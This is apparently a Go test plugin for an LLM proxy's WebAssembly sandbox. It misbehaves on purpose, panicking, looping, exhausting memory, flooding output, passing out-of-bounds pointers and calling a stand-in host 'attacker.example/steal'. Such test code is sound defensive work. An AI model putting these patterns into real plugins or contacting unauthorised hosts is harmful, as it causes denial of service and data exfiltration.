//go:build wasip1

// Command hostile is a test plugin that misbehaves on purpose; the requested
// model picks how:
//
//	panic      panics inside the handler
//	loop       spins forever without calling the host
//	membomb    allocates until the memory cap
//	badhost    sends a request to a host it was not granted
//	badptr     hands the host pointers outside its memory, then reports the statuses
//	flood      streams 100 MB of output, ignoring the host's answers
//	exit       calls proc_exit in the middle of a call
//	silent     returns without answering
//	tape       calls json_tape with a bad pointer, malformed JSON, a tape
//	           too small and a good one, then reports what it saw
//	ok         answers normally (proves the instance still works)
package main

import (
	"bytes"
	"os"
	"strconv"
	"unsafe"

	"github.com/llm-proxy/llm-proxy/sdk"
)

//go:wasmimport llmproxy_v1 emit
func rawEmit(kind int32, buf unsafe.Pointer, length uint32) int32

//go:wasmimport llmproxy_v1 request_read
func rawRequestRead(buf unsafe.Pointer, capacity uint32) int32

//go:wasmimport llmproxy_v1 http_send
func rawHTTPSend(head unsafe.Pointer, headLen uint32, body unsafe.Pointer, bodyLen uint32) int32

//go:wasmimport llmproxy_v1 http_read
func rawHTTPRead(handle int32, buf unsafe.Pointer, capacity uint32) int32

//go:wasmimport llmproxy_v1 json_tape
func rawJSONTape(buf unsafe.Pointer, length uint32, tape unsafe.Pointer, capacity uint32) int32

type plugin struct{}

var sink [][]byte

func mode(c *sdk.Call) string {
	req := c.Request()
	i := bytes.Index(req, []byte(`"model":"`))
	if i < 0 {
		return ""
	}
	rest := req[i+9:]
	return string(rest[:bytes.IndexByte(rest, '"')])
}

func (plugin) Chat(c *sdk.Call) error       { return misbehave(c) }
func (plugin) ChatStream(c *sdk.Call) error { return misbehave(c) }
func (plugin) Embeddings(c *sdk.Call) error { return sdk.ErrUnsupported }
func (plugin) Models(c *sdk.Call) error     { return sdk.ErrUnsupported }

func misbehave(c *sdk.Call) error {
	switch mode(c) {
	case "panic":
		var m map[string]int
		m["boom"] = 1
	case "loop":
		n := 0
		for {
			n++
		}
	case "membomb":
		for {
			sink = append(sink, make([]byte, 1<<20))
		}
	case "badhost":
		_, err := c.Send("GET", "https://attacker.example/steal", nil, nil)
		return err
	case "badptr":
		addr := uintptr(0xFFFFFF00)
		bad := *(*unsafe.Pointer)(unsafe.Pointer(&addr)) // deliberately outside memory
		s1 := rawEmit(2, bad, 4096)
		s2 := rawRequestRead(bad, 1<<20)
		s3 := rawHTTPSend(bad, 1<<30, nil, 0)
		s4 := rawHTTPRead(12345, bad, 10)
		return c.Fail(500, []byte("statuses "+strconv.Itoa(int(s1))+" "+strconv.Itoa(int(s2))+" "+
			strconv.Itoa(int(s3))+" "+strconv.Itoa(int(s4))))
	case "flood":
		chunk := []byte(`{"object":"chat.completion.chunk","choices":[{"index":0,"delta":{"content":"`)
		chunk = append(chunk, bytes.Repeat([]byte("x"), 1<<20)...)
		chunk = append(chunk, `"}}]}`...)
		for i := 0; i < 100; i++ {
			_ = c.EmitChunk(chunk)
		}
		return nil
	case "exit":
		os.Exit(3)
	case "silent":
		return nil
	case "tape":
		addr := uintptr(0xFFFFFF00)
		bad := *(*unsafe.Pointer)(unsafe.Pointer(&addr)) // deliberately outside memory
		doc := []byte(`{"a":[1,"x"]}`)
		var tape [20]uint32
		s1 := rawJSONTape(bad, 16, unsafe.Pointer(&tape[0]), 80)
		s2 := rawJSONTape(unsafe.Pointer(&doc[0]), uint32(len(doc))-1, unsafe.Pointer(&tape[0]), 80)
		s3 := rawJSONTape(unsafe.Pointer(&doc[0]), uint32(len(doc)), unsafe.Pointer(&tape[0]), 79)
		untouched := tape == [20]uint32{}
		s4 := rawJSONTape(unsafe.Pointer(&doc[0]), uint32(len(doc)), bad, 80)
		s5 := rawJSONTape(unsafe.Pointer(&doc[0]), uint32(len(doc)), unsafe.Pointer(&tape[0]), 80)
		out := "tape " + strconv.Itoa(int(s1)) + " " + strconv.Itoa(int(s2)) + " " + strconv.Itoa(int(s3)) + " " +
			strconv.FormatBool(untouched) + " " + strconv.Itoa(int(s4)) + " " + strconv.Itoa(int(s5))
		for _, w := range tape {
			out += " " + strconv.Itoa(int(w))
		}
		return c.Fail(500, []byte(out))
	}
	if c.Op() == 2 {
		if err := c.EmitChunk([]byte(`{"object":"chat.completion.chunk","choices":[{"index":0,"delta":{"content":"fine"}}]}`)); err != nil {
			return err
		}
		return nil
	}
	return c.EmitBody([]byte(`{"object":"chat.completion","choices":[{"index":0,"message":{"role":"assistant","content":"fine"},"finish_reason":"stop"}]}`))
}

func init() { sdk.Register(plugin{}) }

func main() {}
